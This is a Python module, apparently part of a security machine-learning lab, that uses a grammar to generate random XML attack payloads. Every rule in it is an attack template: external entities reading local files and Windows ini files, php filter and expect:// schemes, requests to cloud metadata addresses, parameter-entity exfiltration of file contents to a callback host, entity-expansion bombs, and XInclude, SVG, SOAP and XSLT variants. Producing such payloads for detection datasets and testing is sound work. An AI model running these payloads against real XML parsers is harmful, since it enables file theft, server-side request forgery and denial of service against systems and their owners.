"""XML external entities (CWE-611) and entity expansion (CWE-776): documents that read, call out or explode."""

from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS

_RULES: Final = rules(
    r"""
start
    «head»«general»
    «head»«general»
    «head»«general»
    «head»«parameter»
    «head»«parameter»
    «head»«external»
    «head»«bomb»
    «xinclude»
    «head»«svg»
    «head»«soap»
    «stylesheet»
head
    <?xml version="1.0"?>
    <?xml version="1.0" encoding="UTF-8"?>
    <?xml version="1.0" encoding="ISO-8859-1"?>«nl»
    <?xml version='1.0' standalone='no'?>«nl»
    <?xml version="1.1" encoding="utf-8" ?>
    «empty»
    «nl»
root:
    «label» foo root data r test request order stockCheck user «lower:3» comment doc methodCall
leaf:
    name id item value productId email note «label» title
general
    <!DOCTYPE «root» [«s»<!ENTITY § SYSTEM «q»«uri»«q»>«s»]><«tag»>&§;</«tag»>
    <!DOCTYPE «root» [<!ELEMENT «root» ANY>«s»<!ENTITY § SYSTEM «q»«uri»«q»>]>«nl»<«tag»><«leaf»>&§;</«leaf»></«tag»>
    <!DOCTYPE «root» [<!ENTITY § PUBLIC «q»«label»«q» «q»«uri»«q»>]><«tag»><«leaf»>«n»</«leaf»><«leaf»>&§;</«leaf»«»
    ></«tag»>
    <!DOCTYPE «root»[«nl»  <!ENTITY § SYSTEM «q»«uri»«q»>«nl»]>«nl»<«tag» «leaf»="«n»">«nl»  &§;«nl»</«tag»>
    <!DOCTYPE «root» [<!ENTITY § "«alnum:6»">]><«tag»>&§;</«tag»>
    <!DOCTYPE «root» [<!ATTLIST «root» «leaf» CDATA "«n»"><!ENTITY § SYSTEM «q»«uri»«q»>]><«tag»>&§;</«tag»>
    <!DOCTYPE «root» [<!ENTITY § SYSTEM «q»«uri»«q» NDATA «label»>]><«tag»/>
    <!doctype «root» [<!entity § system «q»«uri»«q»>]><«tag»>&§;</«tag»>
s
    «empty»
    «space»
    «nl»
    «tab»
q:
    " " " '
tag:
    «label» foo root data r order user comment «lower:4»
ent:
    xxe «lower:3» «lower:5» file «label» ent x
uri
    file://«unix_file»
    file://«unix_file»
    file://«unix_file»
    file:///c:/windows/win.ini
    file:///C:/«label»/«label».ini
    file:///«label»/
    php://filter/read=convert.base64-encode/resource=«unix_file»
    php://filter/convert.base64-encode/resource=«label».php
    expect://«plain_command»
    http://«callback»/«label»
    http://127.0.0.1:«port»/
    http://169.254.169.254/latest/meta-data/
    http://«private_ip»/«label»
    ftp://«callback_host»:21/«label»
    jar:file:///«label».jar!/«label»
    netdoc:«unix_file»
    gopher://«callback_host»:«port»/_«alnum:5»
    data://text/plain;base64,«alnum:12»=
    \\«callback_host»\«label»\«lower:3»
    dict://127.0.0.1:«port»/info
    file://localhost«unix_file»
    /dev/random
    https://«callback»/«alnum:6».dtd
parameter
    <!DOCTYPE «root» [<!ENTITY % § SYSTEM «q»«dtd»«q»> %§;]><«tag»/>
    <!DOCTYPE «root» [<!ENTITY % file SYSTEM «q»«uri»«q»>«s»<!ENTITY % dtd SYSTEM «q»«dtd»«q»>«s»%dtd;]><«tag»>&se«»
    nd;</«tag»>
    <!DOCTYPE «root» [<!ENTITY % «lower:2» SYSTEM «q»«dtd»«q»>«s»%«lower:2»;«s»%«lower:4»;«s»]><«tag»>«n»</«tag»>
    <!DOCTYPE «root» [<!ENTITY % a "<!ENTITY &#37; b SYSTEM '«dtd»?%file;'>">%a;%b;]><«tag»/>
    <!DOCTYPE «root» [<!ENTITY % local SYSTEM "file:///usr/share/«label»/«label».dtd"><!ENTITY % «lower:3» '«»
    «alnum:5»'>%local;]><«tag»/>
    <!DOCTYPE «root» [<!ENTITY % § "«alnum:4»"><!ENTITY &#x25; error SYSTEM "file:///«label»/%§;">%error;]>
    <!DOCTYPE «root» [<!ENTITY % start "<![CDATA["><!ENTITY % end "]]>"><!ENTITY % § SYSTEM «q»«uri»«q»>]><«tag»>&«»
    all;</«tag»>
dtd:
    http://«callback»/«label».dtd https://«callback»/«lower:3».xml http://«ip»:«port»/«alnum:6».dtd
    ftp://«callback_host»/«label»
external
    <!DOCTYPE «root» SYSTEM «q»«dtd»«q»><«tag»>«n»</«tag»>
    <!DOCTYPE «root» PUBLIC "-//«label»//«label»//EN" «q»«dtd»«q»><«tag»>&«lower:4»;</«tag»>
    <!DOCTYPE «root» SYSTEM «q»«uri»«q»><«tag»/>
bomb
    <!DOCTYPE «root» [<!ENTITY a "«alnum:4»"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><«tag»>&c«»
    ;</«tag»>
    <!DOCTYPE «root» [<!ENTITY «lower:3» "«lower:3»"><!ENTITY l1 "&l0;&l0;&l0;&l0;"><!ENTITY l2 "&l1;&l1;&l1;">]><«»
    «tag»>&l2;</«tag»>
    <!DOCTYPE «root» [<!ENTITY x "&y;"><!ENTITY y "&x;">]><«tag»>&x;</«tag»>
    <!DOCTYPE «root» [<!ENTITY § SYSTEM "file:///dev/«label»">]><«tag»>&§;&§;&§;</«tag»>
xinclude
    <«tag» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="«uri»"/></«tag»>
    <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="«uri»" parse="text"/>
    <«tag» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="«uri»"><xi:fallback>«n»</xi:fallback></xi:«»
    include></«tag»>
svg
    <!DOCTYPE svg [<!ENTITY § SYSTEM «q»«uri»«q»>]><svg xmlns="http://www.w3.org/2000/svg"><text>&§;</text></svg>
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="«uri»"/></svg>
    <svg><!DOCTYPE «lower:3» [<!ENTITY § SYSTEM «q»«uri»«q»>]><text x="«int:1-90»">&§;</text></svg>
soap
    <soap:Body><«tag»><![CDATA[<!DOCTYPE «root» [<!ENTITY % § SYSTEM «q»«dtd»«q»> %§;]><xxx/>]]></«tag»></soap:Body>
    <!DOCTYPE «root» [<!ENTITY § SYSTEM «q»«uri»«q»>]><soapenv:Envelope><soapenv:Body>&§;</soapenv:Body></soapenv:«»
    Envelope>
    <!DOCTYPE «root» [<!ENTITY § SYSTEM «q»«uri»«q»>]><methodCall><methodName>&§;</methodName></methodCall>
    <!DOCTYPE «root» [<!ENTITY § SYSTEM «q»«uri»«q»>]><rss version="2.0"><channel><title>&§;</title></channel></rss>
    <!DOCTYPE «root» [<!ENTITY § SYSTEM «q»«uri»«q»>]><plist version="1.0"><string>&§;</string></plist>
stylesheet
    <?xml-stylesheet type="text/xsl" href="«dtd»"?><«tag»>«n»</«tag»>
    <xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:value-of select="document(«»
    '«uri»')"/></xsl:stylesheet>
"""
)
_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES})


def payload(rng: Random) -> str:
    """One XML document that abuses entities, inclusions or style sheets."""
    return _GRAMMAR.generate(rng).replace("§", _GRAMMAR.generate(rng, "ent"))
